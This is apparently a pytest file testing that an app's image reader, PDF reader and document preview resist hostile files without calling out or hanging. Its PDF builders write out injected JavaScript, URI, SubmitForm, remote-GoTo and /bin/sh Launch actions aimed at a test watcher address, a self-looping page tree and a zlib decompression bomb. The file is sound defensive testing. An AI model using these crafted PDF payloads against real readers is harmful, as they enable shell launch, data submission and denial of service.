"""Files that nobody means well, in every reader of the window and in the preview of documents."""

import zlib
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from PySide6.QtWidgets import QApplication
from pytestqt.qtbot import QtBot

from gllapp.ui import language, theme
from gllapp.ui.background import BackgroundRunner
from gllapp.ui.pages.documents.preview import Preview, preview_of
from gllapp.ui.readers.document_reader import DocumentReader, ShownFile
from gllapp.ui.readers.image_reader import ImageReader
from gllapp.ui.readers.pdf_reader import PdfReader
from gllapp.ui.tokens import Look
from gllfiles.on_disk import StoredFile
from tests.app.library import stores_in
from tests.app.ui.at_work import at_work
from tests.app.ui.patience import PATIENCE
from tests.files.documents import hand_written_pdf
from tests.hostile.pictures import hostile_pictures
from tests.hostile.watching import Watch, idle, watching


@pytest.fixture
def watch(qapp: QApplication) -> Iterator[Watch]:
    theme.dress(qapp, Look())
    language.speak(qapp, "en")
    with watching() as made:
        yield made


@pytest.fixture
def background(watch: Watch) -> Iterator[BackgroundRunner]:
    with at_work() as made:
        yield made


def _opened(path: Path, media: str, background: BackgroundRunner, qtbot: QtBot) -> DocumentReader:
    reader = DocumentReader(
        ShownFile(path.name, StoredFile(str(path)), media), path.parent / "copies", background
    )
    qtbot.addWidget(reader)
    reader.resize(800, 600)
    reader.show()
    return reader


def _settled(background: BackgroundRunner, qtbot: QtBot) -> None:
    qtbot.waitUntil(lambda: idle(background), timeout=PATIENCE)
    QApplication.processEvents()


# --- pictures ---

# What decoders say when they refuse.
_refusals = pytest.mark.qt_log_ignore("Bogus DQT", "current allocation limit", extend=True)


@_refusals
def test_no_picture_asks_opens_or_holds_up(
    watch: Watch, background: BackgroundRunner, qtbot: QtBot, tmp_path: Path
) -> None:
    shown: dict[str, bool] = {}
    for name, (media, content) in hostile_pictures(watch.address, str(tmp_path / "secret.png")).items():
        (tmp_path / name).write_bytes(content)
        watch.turns.forget()
        reader = _opened(tmp_path / name, media, background, qtbot)
        _settled(background, qtbot)
        assert isinstance(reader.reader, ImageReader)
        reader.reader.toggle_size()
        _settled(background, qtbot)
        watch.saw_nothing()
        shown[name] = not reader.reader._label.pixmap().isNull()
        assert shown[name] != bool(reader.reader._label.text()), f"{name}: shown, or told why not"
        reader.close()
    assert {name for name, is_shown in shown.items() if is_shown} <= {"moving", "moving, and huge", "a bomb"}
    assert shown["moving"], "what is harmless is shown"


@_refusals
def test_no_picture_in_a_document_asks_opens_or_holds_up(
    watch: Watch, background: BackgroundRunner, qtbot: QtBot, tmp_path: Path
) -> None:
    """A drawing would be drawn with the files of this PC that it names."""
    stores = stores_in(tmp_path)
    made = hostile_pictures(watch.address, str(tmp_path / "secret.png"))
    files = {name: stores.own.add_bytes(content).id for name, (_, content) in made.items()}
    text = "\n\n".join(f"![{name}](gll:file/{file.hex()})" for name, file in files.items())
    found = preview_of(stores, text, 0)
    names = {file.hex(): name for name, file in files.items()}
    assert {names[key] for key in found.pictures} <= {"moving"}
    preview = Preview()
    qtbot.addWidget(preview)
    preview.show()
    watch.turns.forget()
    preview.show_preview(found)
    _settled(background, qtbot)
    watch.saw_nothing()


# --- PDF ---


def _acting(path: Path, address: str) -> None:
    """Wants to run, to call and to send, as soon as it is opened or looked at, on pages of no size that there is."""
    acts = (
        f"<< /S /JavaScript /JS (app.launchURL\\('http://{address}'\\); while\\(true\\);) "
        f"/Next [<< /S /URI /URI (http://{address}/x) >> << /S /Launch /F (/bin/sh) >> "
        f"<< /S /SubmitForm /F (http://{address}/form) >> << /S /GoToR /F (//{address}/share/x.pdf) /D [0] >>] >>"
    )
    hand_written_pdf(path, [["One"], ["Two"]])
    content = path.read_bytes()
    content = content.replace(
        b"/Type /Catalog", f"/Type /Catalog /OpenAction {acts} /AA << /WC {acts} >>".encode()
    )
    content = content.replace(b"/Rotate 0", f"/AA << /O {acts} >> /Rotate 0".encode())
    path.write_bytes(content.replace(b"[0 0 595 842]", b"[0 0 9e30 -9e30]", 1))


def _looping(path: Path, address: str) -> None:
    """Whose pages are in themselves, two thousand million of them."""
    hand_written_pdf(path, [["One"]])
    content = path.read_bytes().replace(b"/Kids [5 0 R] /Count 1", b"/Kids [2 0 R 5 0 R] /Count 2000000000")
    path.write_bytes(content.replace(b"/Parent 2 0 R", b"/Parent 5 0 R"))


def _bomb(path: Path, address: str) -> None:
    """Thirty kilobytes that become thirty megabytes of drawing nothing."""
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(b"q Q " * 262_144) for _ in range(30)) + packer.flush()
    hand_written_pdf(path, [["One"]])
    content = path.read_bytes()
    stream = content.index(b"<< /Length ")
    end = content.index(b"endstream", stream)
    head = f"<< /Filter /FlateDecode /Length {len(packed)} >>\nstream\n".encode()
    path.write_bytes(content[:stream] + head + packed + b"\n" + content[end:])


@pytest.mark.parametrize("make", [_acting, _looping, _bomb])
def test_no_pdf_asks_opens_or_holds_up(
    watch: Watch,
    background: BackgroundRunner,
    qtbot: QtBot,
    tmp_path: Path,
    make: Callable[[Path, str], None],
) -> None:
    path = tmp_path / "made.pdf"
    make(path, watch.address)
    watch.turns.forget()
    reader = _opened(path, "application/pdf", background, qtbot)
    assert isinstance(reader.reader, PdfReader)
    pdf = reader.reader
    pdf.document._page_seconds = 2.0
    said: list[object] = []
    pdf._desk.failed.connect(said.append)
    qtbot.waitUntil(lambda: bool(pdf.sizes) or bool(said), timeout=PATIENCE)
    _settled(background, qtbot)
    if pdf.sizes:
        pdf.finding.begin()
        pdf.finding.box.setText("one")
        pdf.finding.box.returnPressed.emit()
        _settled(background, qtbot)
    watch.saw_nothing()
    reader.put_away()
